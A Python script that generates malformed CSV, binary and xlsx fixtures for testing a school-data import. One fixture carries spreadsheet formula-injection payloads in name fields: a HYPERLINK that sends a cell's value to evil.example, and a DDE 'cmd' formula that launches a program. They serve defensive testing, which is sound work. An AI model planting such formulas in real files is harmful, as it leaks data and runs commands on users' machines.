"""Writes the corpus of bad import files that tests/test_import_bad_input.py feeds to the import.

Run once from the project root (the files are kept with the tests; run again after a change here):

    .venv/bin/python tests/data/bad/make_corpus.py

Text files stay readable: CSV as schools export it (semicolons, CRLF or LF, Windows-1252 where
that is the point). Files for results and needs name learners by placeholder, ``{L1}``, ``{L2}``
and ``{L3}`` (a competence file its staff member as ``{S1}``); the test puts real numbers of the
demo school in their place (in CSV text and in the string cells of an xlsx). Binary files are
the smallest real thing of their kind: a 1×1 PNG, a PDF, program headers, archives, OLE2
compound files, workbooks written by openpyxl.
"""

from __future__ import annotations

import datetime as dt
import gzip
import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
FIXED = dt.datetime(2026, 11, 23, 8, 30)

LEARNERS = "Stamboeknummer;Naam;Voornaam;Klas"
RESULTS = "Stamboeknummer;Vak;Periode;Punt;Max"
NEEDS = "Stamboeknummer;Soort;Vak;Vanaf;Tot"
SESSIONS = "Cyclus;Dag;Uur;Code;Soort;Vak;Lokaal;Capaciteit"

# Plain UTF-8 text files, LF line endings unless the text says otherwise.
TEXT: dict[str, str] = {
    # -- structure ---------------------------------------------------------------------------
    "leerlingen-alleen-kopregel.csv": "Stamboeknummer;Naam;Voornaam;Klas;Geboortedatum\r\n",
    "spaties-als-scheidingsteken.csv": (
        "Stamboeknummer Naam Voornaam Klas\n"
        "9990001 Peeters Jan 1A\n"
        "9990002 Maes An 1B\n"),
    "sep-komma-maar-puntkomma.csv": (
        "sep=,\n"
        f"{LEARNERS}\n"
        "9990001;Peeters;Jan;1A\n"),
    "leerlingen-zonder-klas.csv": (
        "Stamboeknummer;Naam;Voornaam;Geboortedatum\n"
        "9990001;Peeters;Jan;14/03/2013\n"),
    # A quote opened on row 3 and closed on row 4: rows 3 and 4 would melt into one cell.
    "aanhalingsteken-slikt-rijen.csv": (
        f"{LEARNERS}\n"
        "9990001;Peeters;Jan;1A\n"
        '9990002;"Maes;An;1A\n'
        '9990003;Peeters";Tom;2A\n'
        "9990004;Claes;Lien;2B\n"),
    "aanhalingsteken-open.csv": (
        f"{LEARNERS}\n"
        "9990001;Peeters;Jan;1A\n"
        '9990002;"Van den Broeck;An;1B\n'
        "9990003;Maes;Tom;2A\n"),
    "sep-regel-aanhalingsteken.csv": (
        "sep=;\n"
        f"{LEARNERS}\n"
        "9990001;Peeters;Jan;1A\n"
        '9990002;"Van den Broeck;An;1B\n'),
    "te-veel-velden.csv": (
        "Stamboeknummer,Naam,Voornaam,Klas\n"
        "9990001,Peeters,Jan,1A\n"
        "9990002,Van den Broeck, De Smet,An,1B\n"),
    "reuzeveld.csv": (
        "Stamboeknummer;Naam;Voornaam;Klas;Opmerking\n"
        "9990001;Peeters;Jan;1A;\n"
        "9990002;Maes;An;1B;data:image/png;base64,iVBORw0KGgo" + "A" * 100_000 + "\n"),
    "leerlingen-lege-regel.csv": (
        f"{LEARNERS}\n"
        "9990001;Peeters;Jan;1A\n"
        "\n"
        "9990002;Maes;An;A1\n"),
    "leerlingen-meerregelige-opmerking.csv": (
        f"{LEARNERS};Opmerking\n"
        '9990001;Peeters;Jan;1A;"zit vooraan\nheeft een bril"\n'
        "9990002;Maes;An;A1;\n"),
    "leerlingen-mac-cr-regeleinden.csv": (
        f"{LEARNERS}\r"
        "9990001;Peeters;Jan;1A\r"
        "9990002;Maes;An;A1\r"),
    # -- learners ----------------------------------------------------------------------------
    "leerlingen-dubbel-stamboeknummer.csv": (
        f"{LEARNERS}\n"
        "9990201;Peeters;Jan;1A\n"
        "9990202;Maes;An;1B\n"
        "9990201;Pieters;Jan;1A\n"),
    "leerlingen-identieke-dubbele-rij.csv": (
        f"{LEARNERS}\n"
        "9990101;Peeters;Jan;1A\n"
        "9990102;Maes;An;1B\n"
        "9990101;Peeters;Jan;1A\n"),
    "leerlingen-onmogelijke-datum.csv": (
        f"{LEARNERS};Geboortedatum\n"
        "9990001;Peeters;Jan;1A;31/02/2013\n"
        "9990002;Maes;An;1B;28/02/2013\n"),
    "leerlingen-geen-datum.csv": (
        f"{LEARNERS};Geboortedatum\n"
        "9990001;Peeters;Jan;1A;14/03/2013\n"
        "9990002;Maes;An;1B;gisteren\n"),
    "leerlingen-ongeldig-emailadres.csv": (
        f"{LEARNERS};E-mail\n"
        "9990001;Peeters;Jan;1A;jan.peeters@school.example\n"
        "9990002;Maes;An;1B;an maes@school.example\n"
        "9990003;Claes;Tom;1B;tom.claes.school.example\n"),
    "leerlingen-foute-klascode.csv": (
        f"{LEARNERS}\n"
        "9990001;Peeters;Jan;A1\n"
        "9990002;Maes;An;1B\n"
        "9990003;Claes;Tom;8B\n"),
    "leerlingen-lege-verplichte-velden.csv": (
        f"{LEARNERS}\n"
        "9990001;Peeters;Jan;1A\n"
        "9990002;Maes;;1B\n"
        "9990003;   ;Tom;1B\n"),
    "leerlingen-formules-in-naam.csv": (
        f"{LEARNERS}\n"
        '9990301;"=HYPERLINK(""http://evil.example/?x=""&A1;""klik"")";Jan;1A\n'
        "9990302;+1;An;1A\n"
        "9990303;-2;Tom;1B\n"
        "9990304;@SUM(A1:A2);Lies;1B\n"
        "9990305;Peeters;=cmd|' /C calc'!A0;1C\n"),
    "leerlingen-dubbele-kolomnaam.csv": (
        "Stamboeknummer;Naam;Voornaam;Klas;Relatie;Naam;Telefoon\n"
        "9990401;Peeters;Jan;1A;moeder;Janssens;0470 12 34 56\n"),
    # -- results -----------------------------------------------------------------------------
    "resultaten-onbekende-leerling.csv": (
        f"{RESULTS}\n"
        "{L1};Wiskunde;Trimester 1;14;20\n"
        "9999999;Wiskunde;Trimester 1;12;20\n"),
    "resultaten-boven-maximum.csv": (
        "Stamboeknummer;Vak;Periode;Punt;Max\n"
        "{L1};Wiskunde;Trimester 1;25;20\n"
        "{L2};Frans;Trimester 1;25/20;\n"
        "{L3};Frans;Trimester 1;18/20;\n"),
    "resultaten-negatief.csv": (
        f"{RESULTS}\n"
        "{L1};Wiskunde;Trimester 1;-3;20\n"
        "{L2};Wiskunde;Trimester 1;11;20\n"),
    "resultaten-zonder-maximum.csv": (
        "Stamboeknummer;Vak;Periode;Punt\n"
        "{L1};Wiskunde;Trimester 1;14\n"
        "{L2};Wiskunde;Trimester 1;AFW\n"),
    "resultaten-onbekende-periode.csv": (
        f"{RESULTS}\n"
        "{L1};Wiskunde;Trimester 4;14;20\n"
        "{L2};Wiskunde;Semester 1;12;20\n"
        "{L3};Wiskunde;T1;12;20\n"),
    "resultaten-geen-getal.csv": (
        f"{RESULTS}\n"
        "{L1};Wiskunde;Trimester 1;veertien;20\n"),
    "resultaten-dubbel.csv": (
        "Stamboeknummer;Vak;Periode;Punt\n"
        "{L1};Wiskunde;Trimester 1;14/20\n"
        "{L1};Wiskunde;Trimester 1;16/20\n"),
    "resultaten-maximum-nul.csv": (
        f"{RESULTS}\n"
        "{L1};Wiskunde;Trimester 1;14;0\n"),
    # -- needs -------------------------------------------------------------------------------
    "noden-onbekende-soort.csv": (
        f"{NEEDS}\n"
        "{L1};bijles;Wiskunde;;\n"
        "{L2};remediëring;Wiskunde;;\n"),
    "noden-remediering-zonder-vak.csv": (
        f"{NEEDS}\n"
        "{L1};remediëring;;;\n"
        "{L2};verbreding;;;\n"),
    "noden-einde-voor-begin.csv": (
        f"{NEEDS}\n"
        "{L1};verdieping;Frans;01/12/2026;30/11/2026\n"),
    "noden-verplicht-misschien.csv": (
        "Stamboeknummer;Soort;Vak;Verplicht\n"
        "{L1};verdieping;Frans;misschien\n"),
    "noden-prioriteit-woord.csv": (
        "Stamboeknummer;Soort;Vak;Prioriteit\n"
        "{L1};verdieping;Frans;dringend\n"),
    "noden-zonder-vakkolom.csv": (
        "Stamboeknummer;Soort;Reden\n"
        "{L1};remediëring;tekort breuken\n"),
    # -- flex offer --------------------------------------------------------------------------
    "flex-capaciteit-nul.csv": (
        f"{SESSIONS}\n"
        "4;dinsdag;7;R-WIS-1;remediëring;Wiskunde;B104;0\n"),
    "flex-zondag.csv": (
        f"{SESSIONS}\n"
        "4;zondag;7;R-WIS-1;remediëring;Wiskunde;B104;12\n"),
    "flex-onbekende-begeleider.csv": (
        f"{SESSIONS};Begeleider\n"
        "4;dinsdag;7;R-WIS-1;remediëring;Wiskunde;B104;12;Mevr. Onbekend\n"),
    "flex-leerjaren-en-cyclus.csv": (
        "Cyclus;Dag;Uur;Code;Soort;Capaciteit;Leerjaren\n"
        "4;dinsdag;7;V-1;verbreding;12;8\n"
        "13;dinsdag;7;V-2;verbreding;12;1-2\n"),
    # -- staff -------------------------------------------------------------------------------
    "personeel-opdracht-30-22.csv": (
        "Personeelsnummer;Naam;Voornaam;Lesopdracht\n"
        "99000000001;Peeters;Jan;30/22\n"
        "99000000002;Maes;An;45\n"
        "99000000003;Claes;Tom;18/22\n"),
    "personeel-onbekende-functie.csv": (
        "Personeelsnummer;Naam;Voornaam;Functie\n"
        "99000000001;Peeters;Jan;leerkracht, conciërge\n"),
    # -- values the database would refuse, and people's numbers ---------------------------
    # Excel turned the column into numbers: 900100 became 9,00E+05, digits lost for good.
    "leerlingen-stamboeknummer-wetenschappelijk.csv": (
        f"{LEARNERS}\n"
        "9990601;Peeters;Jan;1A\n"
        "9,00E+05;Maes;An;1B\n"),
    "leerlingen-stamboeknummer-letters.csv": (
        f"{LEARNERS}\n"
        "99A0602;Maes;An;1B\n"),
    "leerlingen-stamboeknummer-10000-cijfers.csv": (
        f"{LEARNERS}\n"
        + "1" * 10_000 + ";Maes;An;1B\n"),
    "leerlingen-geboortejaar-2099-en-1850.csv": (
        f"{LEARNERS};Geboortedatum\n"
        "9990701;Peeters;Jan;1A;14/03/2099\n"
        "9990702;Maes;An;1B;01/01/1850\n"
        "9990703;Claes;Tom;1B;14/03/2013\n"),
    # One learner twice, once as Excel wrote the number (without its leading zero).
    "leerlingen-voorloopnul-twee-keer.csv": (
        f"{LEARNERS}\n"
        "0990801;Peeters;Jan;1A\n"
        "990801;Pieters;Jan;1B\n"),
    "personeel-voltijds-1000.csv": (
        "Personeelsnummer;Naam;Voornaam;Lesopdracht;Voltijds\n"
        "99000000001;Peeters;Jan;18;1000\n"
        "99000000002;Maes;An;18/99999;\n"),
    "resultaten-punt-123456789.csv": (
        f"{RESULTS}\n"
        "{L1};Wiskunde;Trimester 1;123456789;123456789\n"
        "{L2};Wiskunde;Trimester 1;123456789/200000000;\n"),
    "noden-jaar-2999.csv": (
        f"{NEEDS}\n"
        "{L1};verdieping;Frans;01/12/2026;31/12/2999\n"),
    "flex-lesuur-99.csv": (
        f"{SESSIONS}\n"
        "4;dinsdag;99;R-WIS-1;remediëring;Wiskunde;B104;12\n"
        "4;dinsdag;7;R-WIS-2;remediëring;Wiskunde;B105;" + "9" * 10_000 + "\n"),
    "keuzes-stamboeknummer-10000-cijfers.csv": (
        "Stamboeknummer;Cyclus;1e keuze\n"
        + "1" * 10_000 + ";4;Programmeren\n"),
    "enquete-tijdstempel-2999.csv": (
        '"Tijdstempel","Hoe gaat het?"\n'
        '"2999/10/14 9:12:33 AM GMT+2","Goed"\n'
        '"2026/10/14 9:13:10 AM GMT+2","Slecht"\n'),
    "prof-initiatief-uren-en-kost.csv": (
        "Titel;Vorm;Uren;Kost\n"
        "Studiedag evalueren;studiedag;99999;1.000.000.000,00\n"),
    "prof-budget-bedrag.csv": (
        "Bron;Omschrijving;Bedrag\n"
        "Overheid;Professionaliseringsmiddelen;123.456.789.012,00\n"),
    "prof-competentie-2099.csv": (
        "Personeelsnummer;Competentie;Niveau;Datum\n"
        "{S1};DID2;99;01/10/2099\n"),
    # -- files of another kind than the one chosen, and files without rows -------------------
    "leerlingen-gekozen-als-personeel.csv": (
        f"{LEARNERS};Geboortedatum\n"
        "9990901;Peeters;Jan;1A;14/03/2013\n"),
    "personeel-gekozen-als-leerlingen.csv": (
        "Personeelsnummer;Naam;Voornaam;Lesopdracht;Vakgroep\n"
        "99000000001;Peeters;Jan;22/22;Wiskunde\n"),
    "resultaten-gekozen-als-leerlingen.csv": (
        f"{RESULTS}\n"
        "{L1};Wiskunde;Trimester 1;14;20\n"),
    # -- surveys -----------------------------------------------------------------------------
    "enquete-alleen-metadata.csv": (
        '"Tijdstempel","E-mailadres","Naam"\n'
        '"2026/10/14 9:12:33 AM GMT+2","jan@school.example","Jan"\n'),
    "enquete-alleen-metadata-drie-rijen.csv": (
        '"Tijdstempel","E-mailadres","Naam"\n'
        '"2026/10/14 9:12:33 AM GMT+2","jan@school.example","Jan"\n'
        '"2026/10/14 9:13:10 AM GMT+2","an@school.example","An"\n'
        '"2026/10/14 9:15:47 AM GMT+2","tom@school.example","Tom"\n'),
    "enquete-ms-forms-dubbelzinnige-datums.csv": (
        "ID;Begintijd;Tijd van voltooien;E-mail;Naam;Hoe gaat het?\n"
        "1;10/11/2026 9:12:33;10/11/2026 9:14:00;jan@school.example;Jan;Goed\n"
        "2;11/10/2026 9:12:33;11/10/2026 9:14:05;an@school.example;An;Slecht\n"),
}


def encodings() -> dict[str, bytes]:
    """Files whose bytes, not their text, are the point."""
    header = f"{LEARNERS}\n".encode()
    return {
        "leeg.csv": b"",
        "alleen-bom.csv": b"\xef\xbb\xbf",
        # Two exports glued together: row 2 in UTF-8, row 3 in Windows-1252.
        "gemengde-codering.csv": header + "9990001;Desmet;Hélène;1A\n".encode()
        + "9990002;Dupré;André;1B\n".encode("cp1252"),
        # A UTF-8 BOM (the file claims UTF-8), but row 3 was typed in Windows-1252.
        "bom-maar-windows1252.csv": b"\xef\xbb\xbf" + header
        + b"9990001;Peeters;Jan;1A\n" + "9990002;Dupré;André;1B\n".encode("cp1252"),
        # An old DOS system writes code page 850: 'ü' is byte 0x81, which Windows-1252 lacks.
        "dos-cp850.csv": header + "9990001;Müller;Jan;1A\n".encode("cp850"),
        # Excel's "Unicode text" (UTF-16 with BOM, tabs), cut off one byte short.
        "utf16-afgebroken.csv": ("Stamboeknummer\tNaam\tVoornaam\tKlas\r\n"
                                 "9990001\tPeeters\tJan\t1A\r\n").encode("utf-16")[:-1],
        # A file half-written when the laptop crashed: a block of NUL bytes after the rows.
        "nul-bytes-na-crash.csv": header + b"9990001;Peeters;Jan;1A\n" + b"\x00" * 512,
    }


# -- binary files ----------------------------------------------------------------------------------

def png() -> bytes:
    """A real 1×1 PNG (one white pixel)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels)
            + chunk(b"IEND", b""))


def pdf() -> bytes:
    return (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
            b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


def elf() -> bytes:
    """The 64-byte header of a Linux x86-64 executable."""
    return (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
            + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0))


def windows_exe() -> bytes:
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + stub


def rtf() -> bytes:
    return (b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\f0 "
            b"Stamboeknummer\\tab Naam\\par 9990001\\tab Peeters\\par}\n")


def zip_of_exports() -> bytes:
    """The zip Smartschool hands out when several exports are downloaded at once."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (("leerlingen.csv", f"{LEARNERS}\n9990001;Peeters;Jan;1A\n".encode()),
                           ("klasfoto.png", png())):
            archive.writestr(zipfile.ZipInfo(name, date_time=FIXED.timetuple()[:6]), data)
    return out.getvalue()


def gzipped_csv() -> bytes:
    return gzip.compress(f"{LEARNERS}\n9990001;Peeters;Jan;1A\n".encode(), mtime=0)


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (the container of .doc, .xls and encrypted .xlsx):
    512-byte sectors, one FAT sector, one directory sector; every stream is padded to at least
    4096 bytes so that it lives in ordinary sectors (no mini stream)."""
    free, end, fat_sector, none = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    padded = {name: data.ljust(4096, b"\x00") for name, data in streams.items()}
    fat = [fat_sector, end]                     # sector 0: the FAT, sector 1: the directory
    starts, body = [], b""
    for data in padded.values():
        count = -(-len(data) // 512)
        first = len(fat)
        starts.append(first)
        fat += [*range(first + 1, first + count), end]
        body += data.ljust(count * 512, b"\x00")
    assert len(fat) <= 128, "one FAT sector maps 128 sectors"
    fat_bytes = struct.pack("<128I", *(fat + [free] * (128 - len(fat))))

    def entry(name: str, kind: int, left: int, right: int, child: int, start: int,
              size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        return (encoded.ljust(64, b"\x00") + struct.pack("<HBB3I", len(encoded), kind, 1, left,
                                                         right, child)
                + b"\x00" * 36 + struct.pack("<IQ", start, size))

    names = list(padded)
    assert len(names) <= 3, "one directory sector holds the root and three streams"
    # Siblings form a tree ordered by name length, then name: a right-leaning chain will do.
    order = sorted(range(len(names)), key=lambda i: (len(names[i]), names[i].upper()))
    right_of = {order[i]: order[i + 1] + 1 for i in range(len(order) - 1)}
    entries = [entry("Root Entry", 5, none, none, order[0] + 1, end, 0)]
    for index, name in enumerate(names):
        entries.append(entry(name, 2, none, right_of.get(index, none), none, starts[index],
                             len(padded[name])))
    unused = b"\x00" * 64 + struct.pack("<HBB3I", 0, 0, 0, none, none, none) + b"\x00" * 48
    directory = b"".join(entries + [unused] * (4 - len(entries)))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
              + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, end, 0,
                            end, 0)
              + struct.pack("<109I", 0, *([free] * 108)))
    return header + fat_bytes + directory + body


def word_document() -> bytes:
    """A Word 97-2003 document (renamed .xls): an OLE2 file with a WordDocument stream."""
    return compound_file({"WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 60})


def password_protected_xlsx() -> bytes:
    """What Excel writes for 'Beveiligen met wachtwoord': not a zip but an OLE2 file holding
    EncryptionInfo (agile encryption, version 4.4) and the EncryptedPackage."""
    info = (struct.pack("<HHI", 4, 4, 0x40)
            + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
              b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
              b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
              b'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
              b'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>')
    package = struct.pack("<Q", 4096) + bytes(range(256)) * 16
    return compound_file({"EncryptionInfo": info, "EncryptedPackage": package})


def workbook(sheets: dict[str, list[list[object]]]) -> bytes:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is not None:
                    sheet.cell(r, c, value)
    book.properties.creator = "Flexwijs tests"
    book.properties.created = FIXED
    saved = io.BytesIO()
    book.save(saved)
    return _fixed_times(saved.getvalue())


def _fixed_times(xlsx: bytes) -> bytes:
    """The same workbook with a fixed save time, so that running this script again writes the
    same bytes (openpyxl stamps the current time in the zip and in docProps/core.xml)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "docProps/core.xml":
                data = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>"
                              + FIXED.strftime("%Y-%m-%dT%H:%M:%SZ").encode(), data)
            target.writestr(zipfile.ZipInfo(item.filename, date_time=FIXED.timetuple()[:6]),
                            data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def workbooks() -> dict[str, bytes]:
    learners = [LEARNERS.split(";"), ["9990001", "Peeters", "Jan", "1A"],
                ["9990002", "Maes", "An", "1B"]]
    full = workbook({"Leerlingen": learners})
    return {
        "leerlingen-tabblad.xlsx": workbook({"Leerlingen": learners,
                                             "Klassen": [["Klas"], ["1A"], ["1B"]]}),
        # Smartschool-style: a title above the table, then an empty row, then the header.
        "leerlingen-titelrij.xlsx": workbook({"Leerlingen": [
            ["Leerlingenlijst 2026-2027"], [None], *learners]}),
        # Excel turned the typed 12/20 into a date (20 December) in row 2.
        "resultaten-punt-werd-datum.xlsx": workbook({"Punten": [
            ["Stamboeknummer", "Vak", "Periode", "Punt"],
            ["{L1}", "Wiskunde", "Trimester 1", dt.datetime(2026, 12, 20)],
            ["{L2}", "Wiskunde", "Trimester 1", "14/20"]]}),
        # A download cut off half-way: the zip's table of contents is missing.
        "xlsx-afgebroken.xlsx": full[: len(full) // 2],
        "xlsx-met-wachtwoord.xlsx": password_protected_xlsx(),
    }


def binaries() -> dict[str, bytes]:
    return {
        "afbeelding-png.csv": png(),
        "pdf.csv": pdf(),
        "programma-linux-elf.csv": elf(),
        "programma-windows-exe.csv": windows_exe(),
        "rtf-document.csv": rtf(),
        "zip-geen-xlsx.xlsx": zip_of_exports(),
        "gzip.csv": gzipped_csv(),
        "word-document.xls": word_document(),
    }


def corpus() -> dict[str, bytes]:
    files = {name: text.encode("utf-8") for name, text in TEXT.items()}
    for more in (encodings(), binaries(), workbooks()):
        assert not set(more) & set(files), "a file name is used twice"
        files.update(more)
    return files


def main() -> None:
    for name, data in sorted(corpus().items()):
        (HERE / name).write_bytes(data)
        print(f"{len(data):>8} {name}")


if __name__ == "__main__":
    main()
